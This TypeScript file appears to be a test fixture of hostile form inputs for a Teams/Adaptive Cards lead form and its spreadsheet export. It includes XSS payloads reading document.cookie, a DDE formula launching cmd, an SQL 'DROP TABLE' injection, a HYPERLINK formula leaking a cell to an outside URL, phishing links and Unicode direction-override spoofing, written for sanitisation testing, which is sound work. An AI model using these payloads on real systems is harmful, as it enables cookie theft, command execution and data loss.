/** What a hostile customer writes into the form; the fields that are absent stay ordinary. */
interface HostileText {
  customer: string;
  name?: string;
  first?: string;
  last?: string;
  title?: string;
  city?: string;
  notes: string;
}

const sentence = 'Please note that we have further requirements which are described in the following paragraph. ';

/** Markdown, as Adaptive Cards and Teams messages render it. */
const markdown: HostileText = {
  customer: '[Fabrikam](https://example.com/claim) **Ltd**',
  name: '# Urgent',
  notes: [
    '# You have won',
    '![pixel](https://example.org/pixel.png)',
    '[Sign in to view the quote](https://example.com/phish "Contoso")',
    '- one\n- two\n\n1. first\n2. second\n> quoted\n\n---\n```\ncode\n```',
    '~~gone~~ _really_ **now** `rm` | a | b |',
  ].join('\n'),
};

/** HTML, mentions, and the template language and text functions of Adaptive Cards. */
const markup: HostileText = {
  customer: '<b>Fabrikam</b> & Söhne <!--',
  first: '<at>Everyone</at>',
  last: '<at id="0">All Sales</at>',
  notes:
    '<script>alert(document.cookie)</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)">offer</a>' +
    '</td></tr></table><at>General</at> &lt;escaped&gt; \u0024{$root.customer.name} {{DATE(2026-01-01T00:00:00Z, SHORT)}}',
};

/** What a spreadsheet would run, and what a careless query would. */
const formulas: HostileText = {
  customer: "=cmd|' /C calc'!A0",
  first: '@SUM(1+1)*cmd',
  last: "O'Brien'); DROP TABLE leads;--",
  title: '+SUM(1,1)',
  city: '\t=1+1',
  notes: '=HYPERLINK("https://example.com/?leak="&A1,"Invoice")\r\n-2+3\r\n"quoted";semicolon,comma\r\n,,,"',
};

/** What cannot be seen: direction overrides, zero-width characters, control characters with NUL among them. */
const invisible: HostileText = {
  customer: 'Fabri\u200bkam \u202egnp.ecivoni\u202c \u2067Ltd',
  first: 'A\u0301\u00adda\ufeff',
  last: '\u200fLove\u200dlace\u2066',
  notes:
    'Before\u0000after\u0007 \u001b[31mred\u001b[0m \u0085next\u2028line\u2029paragraph \u202eeman elif\u202c\ufffd\u009f',
};

/** What does not fit: 4,000 characters of notes, and words that no line can hold. */
const endless: HostileText = {
  customer: 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(4),
  last: 'W'.repeat(120),
  title: 'Director '.repeat(30).trim(),
  notes: `${'Rindfleischetikettierung'.repeat(40)} ${sentence.repeat(40)}`.slice(0, 4_000),
};

/** What is one character to a reader and many to a program: emoji families, flags, stacked accents, ligatures. */
const graphemes: HostileText = {
  customer: '👨‍👩‍👧‍👦 Fabrikam Family 🏳️‍🌈🇩🇪🏴󠁧󠁢󠁷󠁬󠁳󠁿',
  first: '👩🏽‍💻',
  last: 'Z̸̧͕a͋̐l̶̪g̷ö́',
  notes: `${'👨‍👩‍👧‍👦'.repeat(130)} ﷽ ${'👍🏿🤷🏻‍♀️'.repeat(20)} ﬃ Å Å ½ {"mktcmpid":"fall-26","partnerid":"123"} Campaigns: q4`,
};

/** Every variety once; all texts but these are well-meant. */
export const hostileTexts: readonly HostileText[] = [markdown, markup, formulas, invisible, endless, graphemes];
